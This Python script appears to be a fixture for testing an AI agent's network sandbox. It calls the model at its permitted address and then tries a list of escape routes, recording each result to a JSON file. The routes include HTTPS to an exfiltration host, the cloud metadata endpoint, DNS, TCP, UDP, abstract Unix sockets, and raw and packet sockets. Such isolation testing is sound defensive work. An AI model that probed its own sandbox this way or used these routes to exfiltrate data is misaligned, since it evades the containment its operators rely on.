"""An agent that calls its model, and then tries every other way out; prints what came of each."""

import json
import os
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path

ASKED = {"model": "m"}


def call_the_model() -> str:
    """Ask as an agent does: at the address and with the key that it was given."""
    request = urllib.request.Request(  # noqa: S310 - the address is the test's own
        f"{os.environ['MODEL_URL']}/messages",
        json.dumps(ASKED).encode(),
        {"x-api-key": os.environ["MODEL_KEY"], "Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request) as answer:  # noqa: S310 - as above
        return json.load(answer)["content"][0]["text"]


def fetch(url: str) -> Callable[[], str]:
    def attempt() -> str:
        try:
            with urllib.request.urlopen(url, timeout=5) as answer:  # noqa: S310 - as above
                return f"got {answer.status}"
        except urllib.error.URLError as error:
            return f"not fetched: {error.reason}"

    return attempt


def resolve() -> str:
    return str(socket.getaddrinfo("example.com", 443))


def say(family: int, kind: int, address: object) -> Callable[[], str]:
    def attempt() -> str:
        with socket.socket(family, kind) as line:
            line.settimeout(2)
            line.connect(address)  # pyright: ignore[reportArgumentType] - one of three forms
            line.send(b"out")
            return "sent" if kind == socket.SOCK_DGRAM else "connected"

    return attempt


def raw(family: int) -> Callable[[], str]:
    def attempt() -> str:
        socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
        return "open"

    return attempt


def main() -> None:
    port, abstract = int(sys.argv[1]), sys.argv[2]
    ways = {
        "the model": call_the_model,
        "https": fetch("https://exfiltration.example/x"),
        "http": fetch("http://plain.example/x"),
        "metadata": fetch("https://169.254.169.254/latest"),
        "resolve": resolve,
        "tcp": say(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)),
        "internet": say(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 443)),
        "udp": say(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
        "abstract": say(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{abstract}"),
        "raw": raw(socket.AF_INET),
        "packet": raw(socket.AF_PACKET),
    }
    came = dict[str, str]()
    for name, way in ways.items():
        try:
            came[name] = way()
        except OSError as error:
            came[name] = f"{type(error).__name__}: {error}"
    Path("came.json").write_text(json.dumps(came))


if __name__ == "__main__":
    main()
